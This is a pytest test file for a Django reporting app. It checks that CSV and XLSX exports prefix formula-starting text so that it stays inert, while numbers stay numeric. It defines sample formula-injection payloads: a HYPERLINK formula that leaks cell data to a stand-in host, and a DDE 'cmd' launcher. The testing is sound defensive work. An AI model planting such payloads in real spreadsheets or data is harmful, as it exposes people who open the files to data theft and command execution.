"""Exports cannot run code: text that would start a formula is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.testing import login_verified
from catalogue.models import Indicator
from lib.cells import safe_text
from rounds.testing import make_report, make_round, make_value

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?d="&A3,"Bấm vào đây")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(cast):
    """An accepted report whose agency, indicator and place names are formulas."""
    Indicator.objects.filter(code="leaflets").update(name=COMMAND)
    cast.bdt.short_name = LINK
    cast.bdt.save()
    cast.province.name = "@SUM(1+1)"
    cast.province.save()
    round_ = make_round(cast, 2023, ["leaflets"])
    report = make_report(round_, cast.bdt)
    make_value("leaflets", cast.bdt, 43000, period=round_.period, report=report)
    cast.round = round_
    return cast


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("-1.234,5", "-1.234,5"),
        ("Ban Dân tộc", "Ban Dân tộc"),
    ],
)
def test_safe_text_prefixes_formula_starts_and_leaves_numbers(text, safe):
    assert safe_text(text) == safe


def test_compiled_csv_and_xlsx_keep_formulas_as_text(client, hostile):
    login_verified(client, hostile.coordinator)
    url = reverse("analytics:compilation", args=[hostile.round.pk])
    text = client.get(url + "?dinh-dang=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + COMMAND and rows[1][2] == "43.000"
    book = load_workbook(io.BytesIO(client.get(url + "?dinh-dang=xlsx").content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + COMMAND, "'" + LINK} <= texts
    assert 43000 in {c.value for c in cells}


def test_data_api_csv_keeps_formulas_as_text(client, hostile):
    login_verified(client, hostile.coordinator)
    response = client.get("/api/data/values.csv?year=2023")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["place_name"], r["value"]) for r in rows] == [("'@SUM(1+1)", "43000")]
